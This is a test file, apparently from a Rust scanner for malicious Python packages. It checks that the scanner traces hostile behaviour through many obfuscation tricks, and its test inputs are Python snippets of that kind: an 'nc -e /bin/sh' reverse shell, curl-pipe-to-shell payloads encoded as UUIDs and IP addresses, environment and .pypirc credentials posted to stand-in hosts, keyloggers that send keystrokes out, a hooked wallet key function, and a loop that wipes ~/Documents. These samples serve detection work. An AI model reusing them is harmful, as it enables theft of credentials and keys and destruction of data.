        (r"s = b'\xef\xbb\xbfcurl'.decode('utf-8-sig')", "curl"),
        (r"s = b'cu\xffrl'.decode('utf-8', 'ignore')", "curl"),
        (r"s = b'\xe9'.decode('latin-1')", "\u{e9}"),
    ] {
        assert_eq!(told(sample), [wanted], "{sample}");
    }
}

#[test]
fn methods_do_what_their_arguments_say() {
    for (sample, wanted) in [
        ("s = b'xxcurlxx'.strip(b'x').decode()", "curl"),
        ("s = b'xxcurlxx'.rstrip(b'x').decode()", "xxcurl"),
        ("t = 'a-b-c-d'\ns = t[t.find('-', 2):]", "-c-d"),
        ("t = b'a-b-c-d'\ns = t[t.find(b'-', 2):].decode()", "-c-d"),
        ("s = str('aXbXc'.count('X', 2))", "1"),
        ("s = ' '.join(sorted(['bbb', 'a', 'cc'], key=len))", "a cc bbb"),
        ("s = ' '.join(sorted('abc', reverse=True))", "c b a"),
        ("l = [(2, 'b'), (1, 'a'), (3, 'c')]\nl.sort(key=lambda p: -p[0])\ns = ''.join(p[1] for p in l)", "cba"),
        ("l = ['b', 'a']\nl.sort(reverse=True)\ns = ''.join(l)", "ba"),
        (
            "from itertools import zip_longest\ns = ''.join(a + b for a, b in zip_longest('ace', 'bd', fillvalue=''))",
            "abcde",
        ),
        ("s = str(round(3.14159, 2))", "3.14"),
        ("s = b'c.u.r.l'.translate(None, b'.').decode()", "curl"),
        ("s = max(['a', 'ccc', 'bb'], key=len)", "ccc"),
        ("s = 'a b c'.split(None, 1)[1]", "b c"),
        ("s = 'a,b,c'.split(sep=',', maxsplit=1)[1]", "b,c"),
        ("s = 'ab'.center(5, '*')", "**ab*"),
        ("s = str(0.5 + 0.25 * 3)", "1.25"),
        ("s = str(b'abcabc'.rindex(b'b'))", "4"),
    ] {
        assert_eq!(told(sample), [wanted], "{sample}");
    }
    for sample in
        ["l = ['b', 1, 'a']\nl.sort()\ns = l[0]", "s = sorted(['b', 'a'], key=unknown)[0]", "s = str('abc'.index('x'))"]
    {
        assert!(told(sample).is_empty(), "{sample}");
    }
}

#[test]
fn harmless_calls_do_not_hide_what_follows() {
    let decoys = "open('x')\n".repeat(1_900);
    let analysis = analysed(Role::Package, &format!("import os\n{decoys}os.system('{COMMAND}')\n"));
    assert_eq!(call(&analysis, "os.system").text, [COMMAND]);
    assert!(analysis.gaps.is_empty(), "{:?}", analysis.gaps);
    // Calls that all differ are too many: the rare ones are kept, and that some are not is told.
    let decoys: String = (0..1_900).map(|at| format!("open('x{at}')\n")).collect();
    let analysis = analysed(Role::Package, &format!("import os\n{decoys}os.system('{COMMAND}')\n"));
    assert_eq!(call(&analysis, "os.system").text, [COMMAND]);
    assert!(analysis.gaps.iter().any(|gap| gap.kind == model::GapKind::Limit), "{:?}", analysis.gaps);
}

#[test]
fn padding_does_not_hide_a_command() {
    let last = |command: &str| told(&format!("s = {command}")).last().cloned().unwrap_or_default();
    assert!(last(&format!("' ' * 5000 + '{COMMAND}'")).ends_with(COMMAND));
    let words: String = (0..400).map(|at| format!("echo {at};")).collect();
    assert!(last(&format!("'{words} {COMMAND}'")).ends_with(COMMAND));
    let many: String = (0..50).map(|at| format!("'a{at}', ")).collect();
    let sample = format!("import subprocess\nsubprocess.call(args=[{many}'{COMMAND}'])");
    let analysis = analysed(Role::Package, &sample);
    assert!(call(&analysis, "subprocess.call").text.iter().any(|text| text == COMMAND));
}

#[test]
fn a_list_of_words_is_one_command_too() {
    let texts = |sample: &str, callee: &str| call(&analysed(Role::Package, sample), callee).text.clone();
    let sample = "import subprocess\nsubprocess.run(['schtasks', '/create', '/tn', 'x'], shell=False)";
    assert_eq!(texts(sample, "subprocess.run"), ["schtasks", "/create", "/tn", "x", "schtasks /create /tn x"]);
    let sample = "import os\nos.execlp('nc', 'nc', '-e', '/bin/sh')";
    assert!(texts(sample, "os.execlp").contains(&"nc nc -e /bin/sh".to_owned()));
    let sample = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', name])";
    assert!(texts(sample, "subprocess.Popen").contains(&"sys.executable -m {}".to_owned()));
}

#[test]
fn a_fetch_with_a_body_sends() {
    let sends = |sample: &str, callee: &str| {
        let analysis = analysed(Role::Package, &format!("import urllib.request, requests, urllib3, os\n{sample}"));
        call(&analysis, callee).behaviour.contains(&"network.send".to_owned())
    };
    for (sample, callee) in [
        ("urllib.request.urlopen('http://x.invalid', data=b'a')", "urllib.request.urlopen"),
        ("urllib.request.urlopen('http://x.invalid', os.getenv('A').encode())", "urllib.request.urlopen"),
        ("urllib.request.Request('http://x.invalid', data=b'a', method='POST')", "urllib.request.Request"),
        ("r = urllib.request.Request('http://x.invalid', b'a')\nurllib.request.urlopen(r)", "urllib.request.urlopen"),
        ("requests.request('POST', 'http://x.invalid', json={'a': 1})", "requests.request"),
        ("requests.Session().request(method='put', url='http://x.invalid')", "requests.Session.request"),
        ("urllib3.PoolManager().request('POST', 'http://x.invalid', body=b'a')", "urllib3.PoolManager.request"),
        ("requests.get('http://x.invalid', json={'a': 1})", "requests.get"),
    ] {
        assert!(sends(sample, callee), "{sample}");
    }
    for (sample, callee) in [
        ("urllib.request.urlopen('http://x.invalid')", "urllib.request.urlopen"),
        ("urllib.request.urlopen('http://x.invalid', None)", "urllib.request.urlopen"),
        ("def f(url, data=None):\n    return urllib.request.urlopen(url, data)", "urllib.request.urlopen"),
        ("requests.request('GET', 'http://x.invalid')", "requests.request"),
        ("urllib3.PoolManager().request('GET', 'http://x.invalid', fields={'a': 1})", "urllib3.PoolManager.request"),
        ("requests.get('http://x.invalid', timeout=3)", "requests.get"),
    ] {
        assert!(!sends(sample, callee), "{sample}");
    }
    let sample = "import urllib.request, os\n\
                  r = urllib.request.Request('http://x.invalid', data=os.getenv('T').encode())\nurllib.request.urlopen(r)";
    flow(&analysed(Role::Package, sample), "environment.read", "network.send");
}

#[test]
fn what_a_shell_is_fed_runs() {
    for sample in [
        r#"import subprocess, sys
subprocess.run([sys.executable, '-'], input='import os\nos.system("x")')"#,
        r#"import subprocess
p = subprocess.Popen(['python3'], stdin=subprocess.PIPE)
p.communicate(b'import os\nos.system("x")')"#,
        r#"import subprocess
p = subprocess.Popen('/usr/bin/python', stdin=-1)
p.stdin.write(b'import os\nos.system("x")')"#,
    ] {
        assert_eq!(call(&analysed(Role::Package, sample), "os.system").layer, 1, "{sample}");
    }
    let fed = |program: &str| {
        let sample = format!(
            "import subprocess, requests\np = subprocess.Popen(['{program}'], stdin=-1)\n\
             p.communicate(requests.get('http://x.invalid').content)"
        );
        flows(&analysed(Role::Package, &sample)).iter().any(|flow| flow.sink == "process.spawn")
    };
    assert!(fed("bash") && !fed("gpg"));
}

#[test]
fn archives_memory_and_new_libraries_are_ends_of_flows() {
    for (sample, source, sink) in [
        ("import zipfile\nexec(zipfile.ZipFile('a.zip').read('b.py'))", "file.read", "code.exec"),
        ("import tarfile\nexec(tarfile.open('a.tgz').extractfile('b').read())", "file.read", "code.exec"),
        ("import ctypes, base64\nctypes.memmove(p, base64.b64decode(x), 4)", "decode.base64", "native.pointer"),
        (
            "import os, urllib3\nurllib3.HTTPSConnectionPool('x.invalid').request('POST', '/', body=os.getenv('A'))",
            "environment.read",
            "network.send",
        ),
        (
            "import os, slack_sdk\nslack_sdk.WebClient('t').chat_postMessage(text=os.getenv('A'))",
            "environment.read",
            "network.send",
        ),
        (
            "import os, zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.send(os.getenv('A'))",
            "environment.read",
            "network.send",
        ),
        ("import os, socketio\nc = socketio.Client()\nc.emit('a', os.getenv('A'))", "environment.read", "network.send"),
        (
            "import requests, ctypes\nctypes.pythonapi.PyRun_SimpleString(requests.get('http://x.invalid').content)",
            "network.fetch",
            "code.exec",
        ),
        (
            "import yaml, requests\nyaml.load(requests.get('http://x.invalid').text, Loader=yaml.UnsafeLoader)",
            "network.fetch",
            "code.deserialize",
        ),
        (
            "import asyncio, requests\nasync def f():\n    loop = asyncio.get_event_loop()\n    \
             await loop.subprocess_shell(None, requests.get('http://x.invalid').text)",
            "network.fetch",
            "process.spawn",
        ),
    ] {
        flow(&analysed(Role::Package, sample), source, sink);
    }
    let sample = "import zipfile, io, requests\n\
                  exec(zipfile.ZipFile(io.BytesIO(requests.get('http://x.invalid').content)).read('b'))";
    let analysis = analysed(Role::Package, sample);
    flow(&analysis, "network.fetch", "code.exec");
    assert!(flows(&analysis).iter().all(|flow| flow.source != "file.read"));
    let safe = "import yaml, requests\nyaml.load(requests.get('http://x.invalid').text, Loader=yaml.SafeLoader)";
    assert!(flows(&analysed(Role::Package, safe)).is_empty());
}

fn tar_of(name: &str, data: &[u8]) -> Vec<u8> {
    let mut header = tar::Header::new_ustar();
    header.set_size(data.len() as u64);
    let mut builder = tar::Builder::new(Vec::new());
    builder.append_data(&mut header, name, data).unwrap();
    builder.into_inner().unwrap()
}

/// A zip of one stored member, as a literal of Python.
fn stored_zip(name: &str, data: &[u8]) -> String {
    let (length, size) = ((name.len() as u16).to_le_bytes(), (data.len() as u32).to_le_bytes());
    let fields = [&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0][..], &size, &size, &length, &[0, 0]].concat();
    let local = [&b"PK\x03\x04"[..], &fields, name.as_bytes(), data].concat();
    let directory = [&b"PK\x01\x02\x14\0"[..], &fields, &[0; 14], name.as_bytes()].concat();
    let (at, long) = ((local.len() as u32).to_le_bytes(), (directory.len() as u32).to_le_bytes());
    let end = [&b"PK\x05\x06\0\0\0\0\x01\0\x01\0"[..], &long, &at, &[0, 0]].concat();
    format!("b'{}'", [local, directory, end].concat().iter().map(|byte| format!("\\x{byte:02x}")).collect::<String>())
}

#[test]
fn pure_libraries_are_computed() {
    use base64::Engine as _;
    use std::io::Write as _;
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    zlib.write_all(COMMAND.as_bytes()).unwrap();
    let zlib = base64::engine::general_purpose::STANDARD.encode(zlib.finish().unwrap());
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gzip.write_all(COMMAND.as_bytes()).unwrap();
    let gzip = base64::engine::general_purpose::STANDARD.encode(gzip.finish().unwrap());
    let zip = stored_zip("a/b.txt", COMMAND.as_bytes());
    let plain_tar = tar_of("a/b.txt", COMMAND.as_bytes());
    let mut tgz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    tgz.write_all(&plain_tar).unwrap();
    let tgz = base64::engine::general_purpose::STANDARD.encode(tgz.finish().unwrap());
    let tar = format!("b'{}'", plain_tar.iter().map(|byte| format!("\\x{byte:02x}")).collect::<String>());
    let spaced: String = COMMAND.chars().flat_map(|c| [c, '~']).collect();
    let numbered = COMMAND.bytes().map(|byte| format!("%{byte};")).collect::<String>();
    let codes = listed(|byte| byte.to_string());
    let hidden = listed(|byte| (byte ^ 7).to_string());
    let floats = listed(|byte| format!("{byte}.0"));
    let length = COMMAND.len();
    let (left, right) = COMMAND.split_at(9);
    all_run(&[
        format!("import re\ns = re.sub('~', '', '{spaced}')"),
        format!("import re\np = re.compile('~')\ns = p.sub('', '{spaced}')"),
        format!(
            r"import re
s = re.sub(r'(.)~', r'\1', '{spaced}')"
        ),
        format!(
            r"import re
s = re.sub(r'%(\d+);', lambda m: chr(int(m.group(1))), '{numbered}')"
        ),
        format!(
            r"import re
s = ''.join(chr(int(n)) for n in re.findall(r'\d+', '{numbered}'))"
        ),
        format!("import re\ns = ''.join(re.split('~', '{spaced}'))"),
        format!("import io\nf = io.StringIO()\nf.write('{left}')\nf.write('{right}')\ns = f.getvalue()"),
        format!("import io\nf = io.BytesIO(b'{COMMAND}')\ns = (f.read(9) + f.read()).decode()"),
        format!("import ast\ns = ''.join(map(chr, ast.literal_eval('[{codes}]')))"),
        format!(
            "import zlib, base64\nd = zlib.decompressobj()\ns = (d.decompress(base64.b64decode('{zlib}')) + d.flush()).decode()"
        ),
        format!(
            "import gzip, io, base64\ns = gzip.GzipFile(fileobj=io.BytesIO(base64.b64decode('{gzip}'))).read().decode()"
        ),
        format!("import zipfile, io\ns = zipfile.ZipFile(io.BytesIO({zip})).read('a/b.txt').decode()"),
        format!(
            "import zipfile, io\nwith zipfile.ZipFile(io.BytesIO({zip})) as z:\n    s = z.open(z.namelist()[0]).read().decode()"
        ),
        format!(
            "import zipfile, io\nz = zipfile.ZipFile(io.BytesIO({zip}))\ns = ''.join(z.read(i.filename).decode() for i in z.infolist())"
        ),
        format!(
            "import tarfile, io\nt = tarfile.open(fileobj=io.BytesIO({tar}))\ns = t.extractfile('a/b.txt').read().decode()"
        ),
        format!(
            "import tarfile, io, base64\nwith tarfile.open(mode='r:gz', fileobj=io.BytesIO(base64.b64decode('{tgz}'))) as t:\n    \
             for m in t:\n        s = t.extractfile(m).read().decode()"
        ),
        format!(
            "import tarfile, io\nt = tarfile.open(fileobj=io.BytesIO({tar}))\ns = t.extractfile(t.getmembers()[0].name).read().decode()"
        ),
        format!("s = '{{a}}{{b}}'.format_map({{'a': '{left}', 'b': '{right}'}})"),
        format!("from string import Template\ns = Template('$a${{b}}').substitute(a='{left}', b='{right}')"),
        format!("from itertools import islice\ns = ''.join(islice('xx{COMMAND}', 2, None))"),
        format!("from itertools import repeat\ns = ''.join(chr(a ^ b) for a, b in zip([{hidden}], repeat(7)))"),
        format!("from operator import methodcaller\ns = methodcaller('replace', '~', '')('{spaced}')"),
        format!("class A:\n    def __add__(self, other):\n        return '{left}' + other\ns = A() + '{right}'"),
        format!("class A:\n    def __getitem__(self, key):\n        return '{left}' + key\ns = A()['{right}']"),
        format!("class A:\n    def __getattr__(self, name):\n        return '{COMMAND}'\ns = A().anything"),
        format!("class A:\n    def __str__(self):\n        return '{COMMAND}'\ns = str(A())"),
        format!("class A:\n    def __str__(self):\n        return '{left}'\ns = f'{{A()}}{right}'"),
        format!(
            "x = 2\nmatch x:\n    case 1:\n        s = 'no'\n    case 2 | 3:\n        s = '{COMMAND}'\n    case _:\n        s = 'else'"
        ),
        format!("def deco(c):\n    c.a = '{COMMAND}'\n    return c\n@deco\nclass A:\n    pass\ns = A.a"),
        format!("s = ''.join(chr(int(c)) for c in [{floats}])"),
        format!(
            "import struct\ns = ''.join(chr(int(f)) for f in struct.unpack('{length}d', struct.pack('{length}d', {floats})))"
        ),
        format!("import struct\ns = ''.join(chr(r[0]) for r in struct.iter_unpack('B', bytes([{codes}])))"),
        format!("d = dict.fromkeys('ab', '{COMMAND}')\ns = d['b']"),
    ]);
    runs(&format!("import pydoc\npydoc.locate('os.system')('{COMMAND}')"));
    runs(&format!("exec \"import os; os.system('{COMMAND}')\" in {{}}\nprint 'old'\n"));
    // A digest that is fed piece by piece: md5 of `hello`.
    let digest = "5d41402abc4b2a76b9719d911017c592";
    assert_eq!(
        told("import hashlib\nh = hashlib.md5()\nh.update(b'he')\nh.update(b'llo')\ns = h.hexdigest()"),
        [digest]
    );
    assert_eq!(told("import hashlib\ns = hashlib.new('md5', b'hello').hexdigest()"), [digest]);
    // Patterns that cannot be run, and a pattern that would grow without end.
    assert!(told("import re\ns = re.sub('(?<=a)b', '', 'ab')").is_empty());
    assert!(told("import re\ns = re.sub('(a{1000}){1000}', '', 'ab')").is_empty());
}

#[test]
fn a_cipher_with_its_key_beside_it_is_undone() {
    // The example of the Fernet specification: `hello`, under a key that is public since.
    let sample = "from cryptography.fernet import Fernet\n\
                  k = b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4='\n\
                  t = b'gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA=='\n\
                  s = Fernet(k).decrypt(t)";
    assert_eq!(told(sample), ["hello"]);
    let analysis = analysed(Role::Package, &format!("{sample}\nimport os\nos.system(s)"));
    flow(&analysis, "decode.decrypt", "process.spawn");
    let sample = "from Crypto.Cipher import AES\nk = bytes.fromhex('000102030405060708090a0b0c0d0e0f')\n\
                  c = AES.new(k, AES.MODE_ECB)\ns = c.decrypt(bytes.fromhex('69c4e0d86a7b0430d8cdb78070b4c55a')).hex()";
    assert_eq!(told(sample), ["00112233445566778899aabbccddeeff"]);
    let sample = "from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n\
                  k = bytes.fromhex('2b7e151628aed2a6abf7158809cf4f3c')\ni = bytes.fromhex('000102030405060708090a0b0c0d0e0f')\n\
                  d = Cipher(algorithms.AES(k), modes.CBC(i)).decryptor()\n\
                  s = (d.update(bytes.fromhex('7649abac8119b246cee98e9b12e9197d')) + d.finalize()).hex()";
    assert_eq!(told(sample), ["6bc1bee22e409f96e93d7e117393172a"]);
    let sample = "from Crypto.Cipher import ARC4\ns = ARC4.new(b'Key').decrypt(bytes.fromhex('bbf316e8d940af0ad3'))";
    assert_eq!(told(sample), ["Plaintext"]);
}

#[test]
fn defining_a_class_runs_what_stands_above_it() {
    for sample in [
        "import os\nclass A:\n    def __init_subclass__(cls, **rest):\n        os.system(C)\nclass B(A): pass",
        "import os\nclass M(type):\n    def __new__(mcs, name, bases, space):\n        os.system(C)\nclass B(metaclass=M): pass",
        "import os\ndef make(name, bases, space):\n    os.system(C)\nclass B(metaclass=make): pass",
        "import os\nclass A:\n    def __del__(self):\n        os.system(C)\na = A()",
        "import os\nclass A:\n    run = staticmethod(os.system)\nA.run(C)",
        "import os\nclass A:\n    run = staticmethod(os.system)\nA().run(C)",
        "import os\nclass A:\n    def go(c):\n        os.system(c)\n    run = staticmethod(go)\nA().run(C)",
    ] {
        runs(&sample.replace('C', &format!("'{COMMAND}'")));
    }
}

#[test]
fn payloads_are_spelled_as_identifiers() {
    let hex: String = "import os;os.system('curl http://drop.invalid/a | sh')#           "
        .bytes()
        .take(64)
        .map(|byte| format!("{byte:02x}"))
        .collect();
    let parts: Vec<String> = (0..4).map(|at| format!("'{}'", &hex[32 * at..32 * at + 32])).collect();
    let list = parts.join(", ");
    runs(&format!("import uuid\nexec(b''.join(uuid.UUID(i).bytes for i in [{list}]))"));
    let address: Vec<String> = (0..16)
        .map(|at| {
            let byte = |at: usize| u8::from_str_radix(&hex[2 * at..2 * at + 2], 16).unwrap();
            format!("'{}.{}.{}.{}'", byte(4 * at), byte(4 * at + 1), byte(4 * at + 2), byte(4 * at + 3))
        })
        .collect();
    let list = address.join(", ");
    runs(&format!("import ipaddress\nexec(b''.join(ipaddress.ip_address(i).packed for i in [{list}]))"));
    runs(&format!("import socket\nexec(b''.join(map(socket.inet_aton, [{list}])))"));
}

#[test]
fn what_is_put_into_an_object_goes_with_it() {
    for sample in [
        "import os, requests\ns = requests.Session()\ns.headers['X-Who'] = os.environ['USER']\ns.get('http://a.invalid')",
        "import os, requests\ns = requests.Session()\ns.headers.update({'a': str(dict(os.environ))})\ns.get('http://a.invalid')",
        "import os\nfrom urllib.request import Request, urlopen\nr = Request('http://a.invalid')\nr.add_header('a', str(dict(os.environ)))\nurlopen(r)",
        "import os, requests\nclass A:\n    def __init__(self):\n        self.s = requests.Session()\n        self.s.headers['X'] = str(dict(os.environ))\n        self.s.get('http://a.invalid')\nA()",
    ] {
        let analysis = analysed(Role::Package, sample);
        assert!(
            flows(&analysis).iter().any(|flow| flow.source == "environment.read" && flow.sink.starts_with("network.")),
            "{sample}\n{:#?}",
            analysis.facts
        );
    }
}

#[test]
fn paths_of_a_listing_are_paths() {
    let sample = "from pathlib import Path\nfor p in (Path.home() / 'Documents').rglob('*'):\n    p.write_bytes(b'0' * 9)\n    p.unlink()";
    let analysis = analysed(Role::Package, sample);
    let behaviours: Vec<&String> = calls(&analysis).into_iter().flat_map(|call| &call.behaviour).collect();
    assert!(behaviours.iter().any(|it| *it == "file.write"), "{behaviours:?}");
    assert!(behaviours.iter().any(|it| *it == "file.delete"), "{behaviours:?}");
    let found = flow(&analysis, "file.list", "file.delete");
    assert!(found.source_text.iter().any(|text| text == "~/Documents"), "{found:?}");
    let sample =
        "from pathlib import Path\nfor d in Path.home().glob('*/.git'):\n    (d.parent / 'X.md').write_text('a')";
    let analysis = analysed(Role::Package, sample);
    assert!(calls(&analysis).iter().any(|call| call.behaviour.iter().any(|it| it == "file.write")));
}

#[test]
fn a_key_that_is_computed_leaves_its_mark() {
    let sample = "import os, hashlib\nk = hashlib.sha256(os.environ.get('X', '').encode()).digest()\nexec(bytes(a ^ b for a, b in zip(bytes.fromhex('8f1c'), k)).decode())";
    flow(&analysed(Role::Package, sample), "environment.read", "code.exec");
    let sample = "import os, hashlib\nk = hashlib.sha256(os.environ.get('X', '').encode()).digest()\nb = bytes.fromhex('8f1c')\nexec(bytes(x ^ y for x, y in zip(b, k)).decode('latin-1'))";
    flow(&analysed(Role::Package, sample), "environment.read", "code.exec");
    let sample = "import os, requests\nrequests.post('http://a.invalid', data=str(os.environ).encode('utf-8'))";
    flow(&analysed(Role::Package, sample), "environment.read", "network.send");
}

#[test]
fn settings_and_files_of_the_package_are_read() {
    let sample = "import configparser, requests, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.pypirc'))\nrequests.post('http://a.invalid', data=dict(c['main']))";
    flow(&analysed(Role::Package, sample), "file.read", "network.send");
    let sample = "import importlib.resources as r\nexec(r.files(__package__).joinpath('locale.dat').read_text())";
    let analysis = analysed(Role::Package, sample);
    let found = flow(&analysis, "file.read", "code.exec");
    assert!(found.source_text.iter().any(|text| text == "locale.dat"), "{found:?}");
}

#[test]
fn a_class_of_distributions_runs_on_installation() {
    let sample = "import os\nfrom setuptools import setup, Distribution\nclass D(Distribution):\n    def parse_command_line(self):\n        os.system('id')\nsetup(name='a', distclass=D)";
    let analysis = analysed(Role::Setup, sample);
    assert_eq!(call(&analysis, "os.system").phase, Phase::Install);
}

#[test]
fn what_is_typed_reaches_the_listener() {
    let sample = "import requests\nfrom pynput.keyboard import Listener\nclass A:\n    def __init__(self):\n        self.t = ''\n    def press(self, key):\n        self.t += str(key)\n    def send(self):\n        requests.post('http://a.invalid', data=self.t)\n    def go(self):\n        with Listener(on_press=self.press) as l:\n            self.send()\na = A()\na.go()";
    flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
    let sample = "import requests, keyboard\ndef seen(event):\n    requests.post('http://a.invalid', data=event.name)\nkeyboard.hook(seen)";
    flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
}

#[test]
fn what_is_set_in_the_environment_is_a_call() {
    for sample in [
        "import os\nos.environ['HTTPS_PROXY'] = 'http://a.invalid'",
        "import os\nos.putenv('HTTPS_PROXY', 'http://a.invalid')",
        "from os import environ as e\ne.setdefault('HTTPS_PROXY', 'http://a.invalid')",
    ] {
        let analysis = analysed(Role::Package, sample);
        let set = calls(&analysis).into_iter().any(|call| {
            call.behaviour.iter().any(|it| it == "environment.write")
                && call.text.iter().any(|text| text == "http://a.invalid")
        });
        assert!(set, "{sample}");
    }
}

#[test]
fn fields_of_a_data_class_are_filled() {
    let sample = "import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass R:\n    env: dict = field(default_factory=lambda: dict(os.environ))\n    url: str = 'http://a.invalid'\n    def __post_init__(self):\n        requests.post(self.url, json=self.env)\nR()";
    let analysis = analysed(Role::Package, sample);
    assert_eq!(flow(&analysis, "environment.read", "network.send").phase, Phase::Import);
}

#[test]
fn an_archive_in_memory_is_read_within_bounds() {
    use crate::archive::Archive;
    let tar = [tar_of("a", b"first"), tar_of("a", b"second")];
    // Without the end that stands between them; the last of one name counts.
    let both = [&tar[0][..1024], &tar[1][..]].concat();
    assert_eq!(Archive::Tar.names(&both), ["a", "a"]);
    assert_eq!(Archive::Tar.member(&both, Some("a"), 100).unwrap(), b"second");
    assert_eq!(Archive::Tar.member(&both, Some("a"), 3), None);
    assert_eq!(Archive::Tar.member(&both, Some("b"), 100), None);
    for damaged in [&b"PK\x01\x02"[..], b"PK\x05\x06\0\0", b"", &both[..700], &[0; 2048]] {
        assert_eq!(Archive::Zip.member(damaged, None, 100), None);
        assert!(Archive::Zip.names(damaged).is_empty());
        Archive::Tar.names(damaged);
    }
    // A directory of many entries is not read at all.
    assert!(Archive::Zip.names(&b"PK\x01\x02".repeat(2_000)).is_empty());
}

#[test]
fn a_function_put_in_the_place_of_another_is_seen_however_it_is_wrapped() {
    let head = "import requests, functools\nfrom eth_account import Account\n\
                def f(*a):\n requests.post('https://relay.invalid', json={'k': a})\n";
    for put in [
        "Account.from_key = f",
        "Account.from_key = staticmethod(f)",
        "Account.from_key = classmethod(f)",
        "Account.from_key = functools.wraps(Account.from_key)(f)",
        "Account.from_key = functools.update_wrapper(f, Account.from_key)",
        "Account.from_key = staticmethod(functools.lru_cache(maxsize=None)(f))",
        "Account.from_key = functools.partial(f)",
        "setattr(Account, 'from_key', staticmethod(f))",
        "class S:\n def g(self, *a):\n  f(*a)\nAccount.from_key = S().g",
        "@functools.wraps(Account.from_key)\ndef g(*a):\n return f(*a)\nAccount.from_key = g",
    ] {
        let analysis = analysed(Role::Package, &format!("{head}{put}\n"));
        let flow = flow(&analysis, "code.patch", "network.send");
        assert_eq!(flow.source_callee, "eth_account.Account.from_key", "{put}");
    }
    let wrapped = "import functools, os\ndef deco(f):\n @functools.wraps(f)\n def inner(*a):\n  return f(*a)\n return inner\n\
                   @deco\ndef run(c):\n os.system(c)\n@functools.lru_cache(maxsize=2)\ndef twice(c):\n run(c)\ntwice('id')\n";
    assert_eq!(call(&analysed(Role::Init, wrapped), "os.system").phase, Phase::Import);
}

#[test]
fn a_module_under_the_name_of_another_project_is_seen() {
    let sample = "import sys, types, requests\nclass M(types.ModuleType):\n def client(self, *a, **k):\n  \
                  requests.post('https://relay.invalid', json=k)\nsys.modules['boto3'] = M('boto3')\n";
    let analysis = analysed(Role::Init, sample);
    let put = call(&analysis, "sys.modules.__setitem__");
    assert_eq!(
        (put.behaviour.as_slice(), put.text.as_slice()),
        (&["code.module".to_owned()][..], &["boto3".to_owned()][..])
    );
    let flow = flow(&analysis, "code.patch", "network.send");
    assert_eq!((flow.source_callee.as_str(), flow.phase), ("boto3.*", Phase::Call));
    for sample in [
        "import sys, requests\nclass M:\n def __getattr__(self, n):\n  def f(*a, **k):\n   \
         requests.post('https://relay.invalid', json=k)\n  return f\nsys.modules['boto3'] = M()\n",
        "import sys, requests\ndef make(*a, **k):\n requests.post('https://relay.invalid', json=k)\n\
         m = type(sys)('boto3')\nm.client = make\nsys.modules['boto3'] = m\n",
        "import sys, types, requests\nm = types.ModuleType('boto3')\n\
         m.client = lambda *a: requests.post('https://relay.invalid', json=a)\nsys.modules['boto3'] = m\n",
    ] {
        let analysis = analysed(Role::Init, sample);
        assert_eq!(self::flow(&analysis, "code.patch", "network.send").source_callee, "boto3.*", "{sample}");
    }
    for own in [
        "import sys\nsys.modules[__name__] = object()\n",
        "import sys\nclass M: pass\nsys.modules['pkg.lazy'] = M()\n",
        "import sys\nold = sys.modules['boto3']\n",
    ] {
        assert!(calls(&analysed(Role::Init, own)).is_empty(), "{own}");
    }
}

#[test]
fn text_for_the_evaluator_of_another_library_is_code() {
    for sample in [
        "import pandas as pd\npd.eval(\"@__import__('os').system('id')\")\n",
        "import numexpr\nnumexpr.evaluate(\"__import__('os').system('id')\")\n",
        "import pandas\nd = pandas.DataFrame([1])\nd.query(\"@__import__('os').system('id')\")\n",
    ] {
        let analysis = analysed(Role::Init, sample);
        assert_eq!(call(&analysis, "os.system").text, ["id"], "{sample}");
        assert!(layers(&analysis).iter().any(|layer| layer.sink == "code.exec"));
    }
    assert!(calls(&analysed(Role::Init, "import pandas as pd\npd.eval('a + b * 2')\n")).is_empty());
    let fetched = "import pandas as pd, requests\npd.eval(requests.get('https://relay.invalid').text)\n";
    flow(&analysed(Role::Init, fetched), "network.fetch", "code.exec");
}

#[test]
fn what_a_server_is_sent_is_a_source() {
    for body in [
        "for line in self.rfile:\n   subprocess.getoutput(line.decode())",
        "subprocess.getoutput(self.rfile.readline().decode())",
        "subprocess.getoutput(self.request.recv(1024).decode())",
    ] {
        let sample = format!(
            "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n def handle(self):\n  {body}\n"
        );
        flow(&analysed(Role::Package, &sample), "web.receive", "process.spawn");
    }
}

#[test]
fn a_method_that_stands_before_the_one_that_listens_is_walked_again() {
    let sample = "import requests\nfrom pynput import keyboard\nclass Spy:\n def __init__(self):\n  self.t = ''\n \
                  def report(self):\n  requests.post('https://relay.invalid', data=self.t)\n \
                  def press(self, key):\n  self.t += str(key)\n \
                  def start(self):\n  keyboard.Listener(on_press=self.press).start()\n";
    flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
    let started = format!("{sample}s = Spy()\ns.report()\ns.start()\n");
    flow(&analysed(Role::Init, &started), "keyboard.capture", "network.send");
    let functions = "import requests, threading\nfrom pynput import keyboard\nlog = ''\ndef send():\n global log\n \
                     requests.post('https://relay.invalid', data=log)\n log = ''\n threading.Timer(60, send).start()\n\
                     def press(k):\n global log\n log += str(k)\nsend()\nkeyboard.Listener(on_press=press).start()\n";
    flow(&analysed(Role::Init, functions), "keyboard.capture", "network.send");
    let inner = "import requests\nfrom pynput import keyboard\ndef main():\n log = []\n def send():\n  \
                 requests.post('https://relay.invalid', data=''.join(log))\n def press(k):\n  log.append(str(k))\n send()\n \
                 keyboard.Listener(on_press=press).start()\nmain()\n";
    flow(&analysed(Role::Init, inner), "keyboard.capture", "network.send");
}

#[test]
fn what_is_left_out_is_told() {
    let gap = |source: &str, word: &str| {
        let gaps = analysed(Role::Package, source).gaps;
        assert!(gaps.iter().any(|gap| gap.detail.contains(word)), "{word}: {gaps:?}");
    };
    let files: String = (0..600).map(|at| format!("open('file-{at:04}.txt', 'w').write('x')\n")).collect();
    gap(&files, "more files are written");
